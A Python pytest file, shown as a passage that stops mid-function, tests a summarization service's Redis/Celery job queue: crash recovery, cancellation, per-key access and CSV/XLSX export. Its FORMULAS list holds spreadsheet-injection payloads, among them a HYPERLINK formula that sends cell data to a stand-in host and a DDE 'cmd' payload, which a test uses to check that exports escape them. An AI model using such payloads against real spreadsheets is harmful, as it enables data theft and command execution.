"""Archive jobs against a real redis-server and real `ringkas worker` processes on the tiny models:
nothing lost when a worker is killed or Redis restarts, every item recorded once, in item order."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import time

import pytest

from api.app import create_app
from tests.conftest import tiny_settings
from tests.helpers import tiny_env
from tests.jobs_cluster import start_cluster

pytestmark = pytest.mark.system

JOB_SETTINGS = {"jobs__chunk_size": 8}


def _items(seed_texts: list[str], count: int, start: int = 0) -> list[dict]:
    """Distinct articles (so no item is answered from the cache), with string ids."""
    return [
        {"id": f"art-{n}", "text": f"{seed_texts[n % len(seed_texts)]}\nCatatan arsip nomor {n} dari redaksi."}
        for n in range(start, start + count)
    ]


def _ndjson(items: list[dict]) -> bytes:
    return "".join(json.dumps(item, ensure_ascii=False) + "\n" for item in items).encode()


def _submit(client, items, headers=None, **defaults):
    response = client.post("/v1/jobs", json={"items": items, "defaults": defaults}, headers=headers or {})
    assert response.status_code == 202, response.get_json()
    return response.get_json()["id"]


def _status(client, job_id, headers=None) -> dict:
    response = client.get(f"/v1/jobs/{job_id}", headers=headers or {})
    assert response.status_code == 200, response.get_json()
    return response.get_json()


def _wait(client, job_id, until=("done",), timeout=240, headers=None, check=None) -> dict:
    deadline = time.monotonic() + timeout
    status = None
    while time.monotonic() < deadline:
        response = client.get(f"/v1/jobs/{job_id}", headers=headers or {})
        if response.status_code == 503:  # Redis restarting: the documented answer, then it comes back
            assert "job store (Redis)" in response.get_json()["detail"]
            time.sleep(0.3)
            continue
        assert response.status_code == 200, response.get_json()
        status = response.get_json()
        if status["status"] in until or (check is not None and check(status)):
            return status
        time.sleep(0.3)
    pytest.fail(f"job {job_id} never reached {until}: {status}")


def _lines(client, job_id, since=0, headers=None) -> list[dict]:
    response = client.get(f"/v1/jobs/{job_id}/results?since={since}", headers=headers or {})
    assert response.status_code == 200
    assert response.mimetype == "application/x-ndjson"
    return [json.loads(line) for line in response.get_data(as_text=True).splitlines()]


@pytest.fixture(scope="module")
def cluster(tiny_dir, tmp_path_factory):
    state = start_cluster(tiny_dir, tmp_path_factory.mktemp("jobs"))
    yield state
    state.stop()


@pytest.fixture(scope="module")
def jobs_client(tiny_dir, runtime, cluster):
    return create_app(tiny_settings(tiny_dir, redis_url=cluster.url, **JOB_SETTINGS), runtime).test_client()


# --- without Redis ----------------------------------------------------------------------------
@pytest.mark.integration
def test_job_routes_answer_503_naming_the_setting_without_redis(client):
    for method, path in (
        ("post", "/v1/jobs"),
        ("get", "/v1/jobs/job_x"),
        ("get", "/v1/jobs/job_x/results"),
        ("delete", "/v1/jobs/job_x"),
    ):
        response = getattr(client, method)(path, json={"items": [{"text": "x"}]} if method == "post" else None)
        assert response.status_code == 503, path
        problem = response.get_json()
        assert response.mimetype == "application/problem+json"
        assert "RINGKAS_REDIS_URL" in problem["detail"] and "ringkas worker" in problem["detail"]
    assert client.get("/v1/models").status_code == 200  # the rest of the service is unchanged


# --- whole-job problems (no worker needed) ---------------------------------------------------
def test_whole_job_problems_are_the_jobs_own_error(tiny_dir, runtime, cluster):
    client = create_app(
        tiny_settings(
            tiny_dir, redis_url=cluster.url, jobs__max_items=3, limits__max_body_bytes=2048, jobs__max_bytes=20_000
        ),
        runtime,
    ).test_client()
    ndjson = {"Content-Type": "application/x-ndjson"}
    bad_line = client.post("/v1/jobs", data=b'{"text": "a"}\n\n{"text": "b"\n', headers=ndjson)
    assert bad_line.status_code == 400 and bad_line.get_json()["line"] == 3
    not_object = client.post("/v1/jobs", data=b'{"text": "a"}\n[1, 2]\n', headers=ndjson)
    assert not_object.status_code == 400 and not_object.get_json()["line"] == 2
    twice = client.post(
        "/v1/jobs", json={"items": [{"id": 7, "text": "a"}, {"id": 8, "text": "b"}, {"id": 7, "text": "c"}]}
    )
    assert twice.status_code == 422 and "7" in twice.get_json()["detail"]
    assert twice.get_json()["errors"][0]["loc"] == ["items", 2, "id"]
    many = client.post("/v1/jobs", json={"items": [{"text": "a"}] * 4})
    assert many.status_code == 413 and "RINGKAS_JOBS__MAX_ITEMS" in many.get_json()["detail"]
    bad_default = client.post("/v1/jobs", json={"items": [{"text": "a"}], "defaults": {"text": "x"}})
    assert bad_default.status_code == 422
    wrong_type = client.post("/v1/jobs", json={"items": [{"text": "a"}], "defaults": {"translate": "maybe"}})
    assert wrong_type.status_code == 422 and wrong_type.get_json()["errors"][0]["loc"][:2] == ["defaults", "translate"]
    typo = client.post("/v1/jobs?lenght=short", data=b'{"text": "a"}\n', headers=ndjson)
    assert typo.status_code == 422 and "length" in typo.get_json()["detail"]
    assert client.post("/v1/jobs", json={"items": []}).status_code == 422
    column = client.post("/v1/jobs", data=b"id,body\n1,halo\n", headers={"Content-Type": "text/csv"})
    assert column.status_code == 400 and "text or html" in column.get_json()["detail"]
    assert client.post("/v1/jobs", data=b"x", headers={"Content-Type": "text/plain"}).status_code == 415
    # An archive is larger than one article: the job limit applies, not the request body limit.
    big = json.dumps({"items": [{"text": "a" * 3000}]}).encode()
    assert len(big) > 2048
    assert client.post("/v1/jobs", data=big, headers={"Content-Type": "application/json"}).status_code == 202
    huge = json.dumps({"items": [{"text": "a" * 30_000}]}).encode()
    assert client.post("/v1/jobs", data=huge, headers={"Content-Type": "application/json"}).status_code == 413


def test_character_budget_refuses_the_whole_job(tiny_dir, runtime, cluster):
    client = create_app(tiny_settings(tiny_dir, redis_url=cluster.url, char_limit="1000/hour"), runtime).test_client()
    whole = client.post("/v1/jobs", json={"items": [{"text": "a" * 600}, {"text": "b" * 600}]})
    assert whole.status_code == 413 and "1200 characters" in whole.get_json()["detail"]
    assert client.post("/v1/jobs", json={"items": [{"text": "a" * 600}]}).status_code == 202
    assert client.post("/v1/jobs", json={"items": [{"text": "b" * 600}]}).status_code == 429


@pytest.mark.unit
def test_csv_from_a_spreadsheet_in_an_indonesian_locale_uses_semicolons():
    from api.jobs.intake import read_job

    body = 'id;text;length\r\n7;"Harga beras naik; pemerintah bertindak.";short\r\n8;Halo, dunia.;long\r\n'
    job = read_job(body.encode("utf-8"), "text/csv", None, {}, 10)
    assert job.items == [
        {"id": "7", "text": "Harga beras naik; pemerintah bertindak.", "length": "short"},
        {"id": "8", "text": "Halo, dunia.", "length": "long"},
    ]
    tabs = read_job(b"id\ttext\n1\tSatu, dua.\n", "text/csv", None, {}, 10)
    assert tabs.items == [{"id": "1", "text": "Satu, dua."}]


def test_csv_rows_become_items_with_typed_options(tiny_dir, runtime, cluster):
    client = create_app(tiny_settings(tiny_dir, redis_url=cluster.url), runtime).test_client()
    body = '\ufeffid,text,translate\n1,"Satu, dua.\nBaris kedua.",true\n2,Halo,no\n'.encode()
    response = client.post("/v1/jobs", data=body, headers={"Content-Type": "text/csv"})
    assert response.status_code == 202
    assert response.get_json()["total"] == 2 and response.headers["Location"].endswith(response.get_json()["id"])


# --- with workers -----------------------------------------------------------------------------
def test_queued_job_survives_a_redis_restart(cluster, jobs_client, seed_texts):
    for proc in cluster.live():  # nothing may take the job before the restart
        proc.send_signal(signal.SIGTERM)
        proc.wait(30)
    job_id = _submit(jobs_client, _items(seed_texts, 16, start=1000))
    before = _status(jobs_client, job_id)
    assert before["status"] == "queued" and before["workers"] == 0 and before["eta_s"] is None
    # A task names the job and the chunk; what Celery's logs and Flower show of it is just that.
    messages = [json.loads(raw) for raw in cluster.client().lrange("ringkas-jobs", 0, -1)]
    shown = sorted(message["headers"]["argsrepr"] for message in messages if job_id in message["headers"]["argsrepr"])
    assert shown == [f"['{job_id}', 0]", f"['{job_id}', 1]"], shown
    cluster.restart_redis()
    after = _wait(jobs_client, job_id, until=("queued",), timeout=30)  # 503 while Redis loads its AOF
    assert after["status"] == "queued" and after["counts"]["total"] == 16
    cluster.ensure_workers(1)
    done = _wait(jobs_client, job_id)
    assert done["counts"] == {"total": 16, "done": 16, "failed": 0, "cancelled": 0, "pending": 0}


def test_job_results_match_the_summarize_route_in_item_order(tiny_dir, runtime, cluster, client, seed_texts):
    cluster.ensure_workers(1)
    # One item per task and one task at a time: each item decodes alone, as a lone request does (in a
    # batch the kept vocabulary is the union of the batch's sources, so outputs may differ).
    jobs_client = create_app(tiny_settings(tiny_dir, redis_url=cluster.url, jobs__chunk_size=1), runtime).test_client()
    items = _items(seed_texts, 10, start=2000)
    items.insert(3, {"id": "pendek", "text": "Pendek."})  # too short after cleaning: the worker's 422
    items.insert(
        6,
        {
            "id": "english",
            "text": "The minister said on Monday that the new road in West Java "
            "would be finished next year, according to a statement from the ministry.",
        },
    )
    items.insert(
        8,
        {
            "id": 99,
            "html": "<article><p>" + seed_texts[0].replace("\n", "</p><p>") + "</p></article>",
            "translate": False,
        },
    )
    job_id = _submit(jobs_client, items, translate=True)
    status = _wait(jobs_client, job_id)
    assert status["counts"] == {"total": 13, "done": 11, "failed": 2, "cancelled": 0, "pending": 0}
    assert status["finished_at"] and status["started_at"] and status["rate_per_s"] > 0 and status["eta_s"] is None
    lines = _lines(jobs_client, job_id)
    assert [line["index"] for line in lines] == list(range(13))
    assert [line["id"] for line in lines] == [item["id"] for item in items]
    assert lines[3]["status"] == "failed" and lines[3]["problem"]["status"] == 422
    assert lines[6]["problem"]["detected_language"]["code"] == "eng_Latn"
    for item, line in zip(items, lines, strict=True):
        if line["status"] != "done":
            continue
        direct = client.post("/v1/summarize", json={"translate": True, **{k: v for k, v in item.items() if k != "id"}})
        assert direct.status_code == 200
        expected = direct.get_json()
        assert line["result"]["summary"] == expected["summary"]
        assert line["result"]["translation"] == expected["translation"]  # item 99 turned translation off
    assert lines[8]["result"]["translation"] is None and lines[8]["result"]["input"]["format"] == "html"
    resumed = jobs_client.get(f"/v1/jobs/{job_id}/results?since=9")
    assert [json.loads(line)["index"] for line in resumed.get_data(as_text=True).splitlines()] == [9, 10, 11, 12]
    assert resumed.headers["Ringkas-Next-Since"] == "13"
    assert jobs_client.get(f"/v1/jobs/{job_id}/results?since=-1").status_code == 422
    metrics = jobs_client.get("/metrics").get_data(as_text=True)
    assert 'ringkas_job_items_total{status="done"}' in metrics and "ringkas_job_workers 1.0" in metrics


def test_jobs_belong_to_their_key_and_expire(tiny_dir, runtime, cluster, seed_texts):
    cluster.ensure_workers(1)
    settings = tiny_settings(tiny_dir, redis_url=cluster.url, api_keys="alpha-key,beta-key", jobs__ttl_s=3)
    client = create_app(settings, runtime).test_client()
    alpha, beta = {"X-API-Key": "alpha-key"}, {"X-API-Key": "beta-key"}
    job_id = _submit(client, _items(seed_texts, 2, start=3000), headers=alpha)
    for method, path in (("get", ""), ("get", "/results"), ("delete", "")):
        response = getattr(client, method)(f"/v1/jobs/{job_id}{path}", headers=beta)
        assert response.status_code == 404, path  # as for a job that never was: ids are not confirmed
    assert client.get(f"/v1/jobs/{job_id}").status_code == 401
    _wait(client, job_id, headers=alpha)
    assert len(_lines(client, job_id, headers=alpha)) == 2
    # The TTL (3 s) runs out in Redis: await the keys' going, not a guessed number of seconds.
    redis, deadline = cluster.client(), time.monotonic() + 30
    while any(redis.scan_iter(f"ringkas:job:{job_id}*")) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert client.get(f"/v1/jobs/{job_id}", headers=alpha).status_code == 404
    assert client.get(f"/v1/jobs/{job_id}/results", headers=alpha).status_code == 404
    assert not [key for key in cluster.client().scan_iter(f"ringkas:job:{job_id}*")]  # nothing left behind


def test_cancel_stops_what_has_not_started_and_keeps_what_finished(cluster, jobs_client, seed_texts):
    cluster.ensure_workers(1)
    job_id = _submit(jobs_client, _items(seed_texts, 48, start=4000))
    _wait(jobs_client, job_id, check=lambda status: status["counts"]["done"] >= 8)
    cancelled = jobs_client.delete(f"/v1/jobs/{job_id}").get_json()
    assert cancelled["status"] == "cancelled" and cancelled["cancelled_at"]
    settled = cluster.client()
    deadline = time.monotonic() + 60
    # Settled: nothing queued, and the chunk that was running when the job was cancelled has ended
    # (Celery's Redis transport keeps a delivered, unacknowledged task in its "unacked" hash).
    while (settled.llen("ringkas-jobs") or settled.hlen("unacked")) and time.monotonic() < deadline:
        time.sleep(0.3)
    final = _status(jobs_client, job_id)
    assert final["status"] == "cancelled"
    counts = final["counts"]
    # A cancelled job has ended: what did not run is counted as cancelled, never pending forever.
    assert 8 <= counts["done"] < 48 and counts["cancelled"] > 0 and counts["pending"] == 0
    assert counts["done"] + counts["failed"] + counts["cancelled"] == counts["total"] == 48
    assert final["finished_at"] == cancelled["cancelled_at"]
    assert len(_lines(jobs_client, job_id)) == counts["done"] + counts["failed"]


def test_two_workers_share_one_job(cluster, jobs_client, seed_texts):
    """Both take part by construction, not by luck: the second is paused (SIGSTOP) until the first has
    stored part of the job, then the first is paused, so only the second can finish it (the chunk the
    first held comes back to the queue after the visibility timeout)."""
    first, second, *others = cluster.ensure_workers(2)
    redis = cluster.client()
    for proc in (first, second, *others):  # others (from earlier tests) stay paused throughout
        proc.send_signal(signal.SIGSTOP)
    try:
        job_id = _submit(jobs_client, _items(seed_texts, 64, start=5000))
        results = f"ringkas:job:{job_id}:results"
        first.send_signal(signal.SIGCONT)
        deadline = time.monotonic() + 120
        while redis.hlen(results) == 0 and time.monotonic() < deadline:
            time.sleep(0.02)
        first.send_signal(signal.SIGSTOP)
        assert 0 < redis.hlen(results) < 64  # the first stored part of the job and cannot store more
        second.send_signal(signal.SIGCONT)
        _wait(jobs_client, job_id, timeout=300)
    finally:
        for proc in (first, second, *others):
            proc.send_signal(signal.SIGCONT)
    contributors = redis.hgetall(f"ringkas:job:{job_id}:workers")
    assert len(contributors) == 2 and all(int(count) > 0 for count in contributors.values()), contributors
    assert sum(int(count) for count in contributors.values()) == 64


def test_a_worker_killed_mid_job_loses_nothing_and_duplicates_nothing(cluster, jobs_client, seed_texts):
    # The worker to kill works alone and holds each batch 0.4 s for company, so it spends nearly all
    # its time inside a chunk; it is killed at a moment Redis shows it inside one (a chunk started,
    # its items not all stored), never between two (which would test nothing: tiny models finish a
    # chunk in milliseconds, and a healthy worker sharing the job made that gap likely). No token
    # budget either: a batch full by tokens would start at once instead of waiting.
    for proc in cluster.live():
        proc.send_signal(signal.SIGTERM)
        proc.wait(30)
    doomed = cluster.start_worker(
        serving__max_batch_size="64",
        serving__max_batch_tokens="1000000",
        serving__batch_wait_ms="400",
        serving__batch_quiet_ms="400",
    )
    job_id = _submit(jobs_client, _items(seed_texts, 200, start=6000))
    redis = cluster.client()
    base = f"ringkas:job:{job_id}"

    def inside_a_chunk(_status) -> bool:
        started = sum(1 for name in redis.hkeys(f"{base}:attempts") if name.startswith("chunk:"))
        stored = redis.hlen(f"{base}:results")
        return stored > 0 and stored < JOB_SETTINGS["jobs__chunk_size"] * started

    _wait(jobs_client, job_id, check=inside_a_chunk)
    doomed.send_signal(signal.SIGKILL)
    doomed.wait(10)
    cluster.start_worker()
    status = _wait(jobs_client, job_id, timeout=400)
    assert status["counts"] == {"total": 200, "done": 200, "failed": 0, "cancelled": 0, "pending": 0}
    lines = _lines(jobs_client, job_id)
    assert [line["index"] for line in lines] == list(range(200))  # each once, in order
    assert len({line["id"] for line in lines}) == 200
    attempts = redis.hgetall(f"{base}:attempts")
    # The killed worker's chunk really was delivered again (the test exercised the recovery path).
    assert any(int(count) >= 2 for name, count in attempts.items() if name.startswith("chunk:")), attempts
    assert sum(int(c) for c in redis.hgetall(f"{base}:workers").values()) == 200


def test_worker_without_redis_says_what_to_set(tiny_dir):
    env = tiny_env(tiny_dir)
    env.pop("RINGKAS_REDIS_URL", None)
    done = subprocess.run(
        [sys.executable, "-m", "api.cli", "worker"], env=env, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 2 and "RINGKAS_REDIS_URL" in done.stderr


def test_an_item_recorded_twice_is_stored_and_counted_once(cluster):
    from api.jobs.store import JobStore

    store = JobStore.from_url(cluster.url, 60)
    store.create("job_twice", "public", total=2, chunks=1)
    assert store.facts("job_twice").status == "queued"
    store.started("job_twice")  # as a worker does when it takes the first chunk
    first = store.record("job_twice", 0, {"id": "a", "index": 0, "status": "done", "result": {"n": 1}}, "w1")
    again = store.record("job_twice", 0, {"id": "a", "index": 0, "status": "done", "result": {"n": 2}}, "w2")
    assert (first, again) == ("done", None)
    facts = store.facts("job_twice")
    assert (facts.done, facts.failed, facts.status, facts.finished_at) == (1, 0, "running", None)
    assert json.loads(next(store.results("job_twice", 2)))["result"] == {"n": 1}  # the first write stands
    assert store.record("job_twice", 1, {"id": "b", "index": 1, "status": "failed", "problem": {}}, "w2") == "failed"
    facts = store.facts("job_twice")
    assert (facts.done, facts.failed, facts.status) == (1, 1, "done") and facts.finished_at is not None
    assert cluster.client().hgetall("ringkas:job:job_twice:workers") == {"w1": "1", "w2": "1"}  # per worker
    store.delete("job_twice")
    assert store.record("job_twice", 1, {"id": "b", "index": 1, "status": "done"}, "w1") is None  # a job gone


def test_a_redelivered_chunk_fails_only_the_item_that_keeps_killing_its_worker(pipeline, cluster, seed_texts):
    """The path a chunk takes after its worker died: items one at a time, each start counted; the
    item that already took its worker down `job_attempts` times is failed alone, the rest finish."""
    from api.jobs.store import JobStore
    from api.jobs.worker import ChunkRunner

    store = JobStore.from_url(cluster.url, 60)
    job_id = "job_" + "0" * 32
    store.create(job_id, "public", total=4, chunks=1, chunk_size=4)
    chunk = [[index, item] for index, item in enumerate(_items(seed_texts, 4, start=7000))]
    store.put_chunks(job_id, {0: chunk})
    store.attempt(job_id, "chunk:0")  # the delivery that died
    for _ in range(3):
        store.attempt(job_id, "item:2")  # item 2 was being summarized each time a worker died
    counts = ChunkRunner(pipeline, store, "test-worker", attempts=3).run(job_id, 0)
    assert counts == {"done": 3, "failed": 1, "skipped": 0}
    lines = [json.loads(line) for line in store.results(job_id, 4)]
    assert [line["status"] for line in lines] == ["done", "done", "failed", "done"]
    assert lines[2]["id"] == "art-7002" and lines[2]["problem"]["type"].endswith("/item-poisoned")
    assert store.facts(job_id).status == "done"
    assert store.chunk(job_id, 0) is None  # a chunk's input goes once every item of it is recorded
    store.put_chunks(job_id, {0: chunk})
    again = ChunkRunner(pipeline, store, "test-worker", attempts=3).run(job_id, 0)
    assert again == {"done": 0, "failed": 0, "skipped": 4}  # a third delivery redoes nothing
    store.delete(job_id)


def test_jobs_cli_submits_a_csv_waits_and_writes_the_results(tiny_dir, runtime, cluster, tmp_path, seed_texts):
    import csv

    from tests.helpers import serve_in_thread

    cluster.ensure_workers(1)
    upload = tmp_path / "arsip.csv"
    with upload.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text", "length"])
        for item in _items(seed_texts, 5, start=8000):
            writer.writerow([item["id"], item["text"], "short"])
    app = create_app(tiny_settings(tiny_dir, redis_url=cluster.url, api_keys="cli-key"), runtime)
    out = tmp_path / "out.ndjson"
    with serve_in_thread(app) as url:
        env = {**tiny_env(tiny_dir), "RINGKAS_API_KEY": "cli-key"}
        command = [sys.executable, "-m", "api.cli", "jobs", "submit", str(upload), "--url", url, "--translate"]
        done = subprocess.run(
            [*command, "--wait", "--output", str(out)], env=env, capture_output=True, text=True, timeout=180
        )
        assert done.returncode == 0, done.stderr
        assert "5 done, 0 failed, 5 lines written" in done.stderr
        lines = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
        assert [line["id"] for line in lines] == [f"art-{n}" for n in range(8000, 8005)]
        assert all(line["result"]["preset"] == "short" and line["result"]["translation"] for line in lines)
        job_id = done.stderr.split("job ")[1].split(":")[0]
        status = subprocess.run(
            [sys.executable, "-m", "api.cli", "jobs", "status", job_id, "--url", url],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert json.loads(status.stdout)["counts"]["done"] == 5
        # The same results as a spreadsheet, from the command line.
        from openpyxl import load_workbook

        for fmt in ("csv", "xlsx"):
            sheet_file = tmp_path / f"out.{fmt}"
            got = subprocess.run(
                [sys.executable, "-m", "api.cli", "jobs", "results", job_id, "--url", url, "--format", fmt,
                 "--output", str(sheet_file)],
                env=env, capture_output=True, text=True, timeout=60,
            )  # fmt: skip
            assert got.returncode == 0 and f"bytes of {fmt.upper()}" in got.stderr, got.stderr
        rows = list(csv.reader((tmp_path / "out.csv").read_text(encoding="utf-8-sig").splitlines()))
        assert rows[0][0] == "id" and [r[0] for r in rows[1:]] == [f"art-{n}" for n in range(8000, 8005)]
        sheet = load_workbook(tmp_path / "out.xlsx").active
        assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [f"art-{n}" for n in range(8000, 8005)]
        wrong = subprocess.run(
            [sys.executable, "-m", "api.cli", "jobs", "status", job_id, "--url", url, "--key", "other"],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert wrong.returncode == 1 and "403" in wrong.stderr and "Traceback" not in wrong.stderr
        as_json = tmp_path / "arsip.json"  # a JSON file's own defaults win over the command line's
        as_json.write_text(json.dumps({"items": _items(seed_texts, 1, start=8100), "defaults": {"length": "long"}}))
        out_json = tmp_path / "out-json.ndjson"
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "api.cli",
                "jobs",
                "submit",
                str(as_json),
                "--url",
                url,
                "--length",
                "short",
                "--translate",
                "--wait",
                "--output",
                str(out_json),
            ],
            env=env,
            capture_output=True,
            text=True,
            timeout=180,
        )
        assert done.returncode == 0, done.stderr
        (line,) = [json.loads(line) for line in out_json.read_text(encoding="utf-8").splitlines()]
        assert line["result"]["preset"] == "long" and line["result"]["translation"] is not None
        bad = tmp_path / "bad.jsonl"
        bad.write_text('{"text": "a"}\n{oops\n', encoding="utf-8")
        refused = subprocess.run(
            [sys.executable, "-m", "api.cli", "jobs", "submit", str(bad), "--url", url],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert refused.returncode == 1 and "line 2" in refused.stderr


@pytest.mark.integration
def test_an_unreachable_redis_is_a_503_naming_the_job_store(tiny_dir, runtime):
    from tests.helpers import free_port

    settings = tiny_settings(tiny_dir, redis_url=f"redis://127.0.0.1:{free_port()}/0")
    client = create_app(settings, runtime).test_client()
    submitted = client.post("/v1/jobs", json={"items": [{"text": "Halo."}]})
    assert submitted.status_code == 503 and "job store (Redis)" in submitted.get_json()["detail"]
    assert client.get("/v1/jobs/job_" + "1" * 32).status_code == 503
    assert client.get("/metrics").status_code == 200  # the other metrics still answer


def test_a_running_job_survives_a_redis_restart_under_its_workers(cluster, jobs_client, seed_texts):
    cluster.ensure_workers(1)
    job_id = _submit(jobs_client, _items(seed_texts, 64, start=9000))
    _wait(jobs_client, job_id, check=lambda status: status["counts"]["done"] >= 8)
    cluster.restart_redis()  # the workers lose their connection mid-chunk and reconnect
    status = _wait(jobs_client, job_id, timeout=300)
    assert status["counts"] == {"total": 64, "done": 64, "failed": 0, "cancelled": 0, "pending": 0}
    assert [line["index"] for line in _lines(jobs_client, job_id)] == list(range(64))


# --- results as spreadsheets ------------------------------------------------------------------
# (An id starting with a tab or a carriage return is refused at intake; the export's unit test covers them.)
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3",
            " =1+1", "\uff1d1+1", "Biasa-7"]  # fmt: skip


def test_results_come_back_as_csv_and_xlsx_with_no_cell_a_spreadsheet_would_run(cluster, jobs_client):
    import csv
    import io

    from openpyxl import load_workbook

    cluster.ensure_workers(1)
    items = [{"id": formula, "text": f"Warga desa menanam padi bersama pada musim hujan tahun ini, ke-{n}."}
             for n, formula in enumerate(FORMULAS)]  # fmt: skip
    job_id = _submit(jobs_client, items, force=True)
    _wait(jobs_client, job_id)
    as_csv = jobs_client.get(f"/v1/jobs/{job_id}/results?format=csv&delimiter=;")
    assert as_csv.status_code == 200 and as_csv.mimetype == "text/csv"
    raw = as_csv.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the mark
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["id", "index", "status", "summary", "translation", "problem", "warnings", "sources"]
    ids = [r[0] for r in rows[1:]]
    assert ids == [("'" + f if f != "Biasa-7" else f) for f in FORMULAS]
    assert all(line.startswith('"') for line in raw.decode("utf-8-sig").splitlines() if line)  # every field quoted
    # Chosen by Accept too, and the same rows.
    negotiated = jobs_client.get(f"/v1/jobs/{job_id}/results", headers={"Accept": "text/csv"})
    assert negotiated.mimetype == "text/csv" and "Accept" in negotiated.headers["Vary"]

    as_xlsx = jobs_client.get(f"/v1/jobs/{job_id}/results?format=xlsx")
    assert as_xlsx.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(as_xlsx.get_data())).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == ids and all(c.data_type == "s" for c in cells)
    # Resumable as NDJSON is: from an index on.
    later = jobs_client.get(f"/v1/jobs/{job_id}/results?format=csv&since=5").get_data().decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(later)))) == 1 + len(FORMULAS) - 5
    bad = jobs_client.get(f"/v1/jobs/{job_id}/results?format=pdf")
    assert bad.status_code == 422 and bad.get_json()["errors"][0]["loc"] == ["query", "format"]


def test_a_csv_upload_comes_back_as_csv_with_its_own_delimiter(cluster, jobs_client):
    import csv
    import io

    cluster.ensure_workers(1)
    rows = [f"semi-{n};Warga desa menanam padi bersama pada musim hujan, bagian {n} dari liputan." for n in range(3)]
    body = "id;text\n" + "\n".join(rows) + "\n"
    answer = jobs_client.post("/v1/jobs?force=true", data=body.encode(), content_type="text/csv")
    assert answer.status_code == 202, answer.get_json()
    job_id = answer.get_json()["id"]
    status = _wait(jobs_client, job_id)
    assert status["upload"] == {"format": "csv", "delimiter": ";"}
    results = jobs_client.get(f"/v1/jobs/{job_id}/results?format=csv").get_data().decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(results), delimiter=";"))
    assert table[0][:3] == ["id", "index", "status"] and [r[0] for r in table[1:]] == ["semi-0", "semi-1", "semi-2"]
    # The caller may still choose: a comma on request.
    comma = jobs_client.get(f"/v1/jobs/{job_id}/results?format=csv&delimiter=,").get_data().decode("utf-8-sig")
    assert comma.splitlines()[0] == '"id","index","status","summary","translation","problem","warnings","sources"'


@pytest.mark.unit
def test_xlsx_results_are_a_readable_sheet_with_numbers_as_numbers():
    import io

    from openpyxl import load_workbook

    from api.jobs.export import COLUMNS, xlsx_file

    problem = {"title": "Request cannot be served", "detail": "text is empty or holds nothing but boilerplate"}
    lines = [
        json.dumps({"id": f"a{n}", "index": n, "status": "done", "result": {"summary": {"text": "Ringkasan."}}})
        if n != 3
        else json.dumps({"id": "a3", "index": 3, "status": "failed", "problem": problem})
        for n in range(12)
    ]
    with xlsx_file(lines) as spool:
        sheet = load_workbook(io.BytesIO(spool.read())).active
    indexes = [row[COLUMNS.index("index")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "n" for cell in indexes)
    assert sorted(cell.value for cell in indexes) == list(range(12))  # 1, 2, ..., 10, 11: sorted as numbers
    assert sheet.freeze_panes == "A2" and all(cell.font.bold for cell in sheet[1])
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFG"}
    assert widths["D"] >= 60 and widths["B"] <= 10  # a summary is readable; an index is narrow
    failed = sheet.cell(row=5, column=COLUMNS.index("problem") + 1).value
    assert failed == problem["detail"]  # said once, without the generic title before it


def test_a_small_job_of_another_key_is_not_held_behind_a_big_one(tiny_dir, runtime, cluster, seed_texts):
    """Key A's 60-chunk job is queued first, key B's 3-chunk job after it, on one worker paused while
    both are submitted (so the order is the queue's, not a race). Jobs queue 2 chunks each and a
    finished chunk queues its job's next at the back: B waits behind A's window, not A's backlog."""
    worker, *others = cluster.ensure_workers(1)
    redis = cluster.client()
    settings = tiny_settings(
        tiny_dir, redis_url=cluster.url, api_keys="big-key,small-key", jobs__chunk_size=1, jobs__window=2
    )
    client = create_app(settings, runtime).test_client()
    big_key, small_key = {"X-API-Key": "big-key"}, {"X-API-Key": "small-key"}
    for proc in (worker, *others):  # others (from earlier tests) stay paused throughout
        proc.send_signal(signal.SIGSTOP)
    try:
        big = _submit(client, _items(seed_texts, 60, start=9000), headers=big_key)
        small = _submit(client, _items(seed_texts, 3, start=9100), headers=small_key)
        # Two chunks per job queued (one may sit in the paused worker's socket), never the big job's 60.
        assert redis.llen("ringkas-jobs") <= 4
        worker.send_signal(signal.SIGCONT)
        big_results, small_results = f"ringkas:job:{big}:results", f"ringkas:job:{small}:results"
        deadline = time.monotonic() + 240
        while redis.hlen(small_results) < 3 and time.monotonic() < deadline:
            time.sleep(0.01)
        big_before_small_ended = redis.hlen(big_results)
    finally:
        for proc in (worker, *others):
            proc.send_signal(signal.SIGCONT)
    assert _status(client, small, headers=small_key)["status"] == "done"
    # Round robin: B's 3 chunks alternate with A's 2-chunk window, so about 4 of A's chunks run
    # first (6 at most, plus one for the poll): FIFO would have run all 60.
    assert big_before_small_ended <= 2 * 3 + 1, big_before_small_ended
    assert _wait(client, big, headers=big_key)["counts"]["done"] == 60
    assert [line["index"] for line in _lines(client, big, headers=big_key)] == list(range(60))


def test_a_job_whose_chain_broke_is_queued_again_by_the_sweep(tiny_dir, runtime, cluster, seed_texts):
    """The tasks a job had queued are lost (as when a worker died between claiming the next chunk and
    queueing it): the job would wait forever. The sweep finds it (nothing of it queued or running)
    and queues its remaining chunks again; it finishes with each item once. While the job's tasks
    are queued, the sweep leaves it alone."""
    from api.jobs.chain import SWEEP_LOCK, Chain
    from api.jobs.queue import CHUNK_TASK, QUEUE, make_celery
    from api.jobs.store import JobStore

    workers = cluster.ensure_workers(1)
    redis = cluster.client()
    settings = tiny_settings(tiny_dir, redis_url=cluster.url, jobs__chunk_size=2, jobs__window=2)
    client = create_app(settings, runtime).test_client()
    app = make_celery(settings)
    chain = Chain(
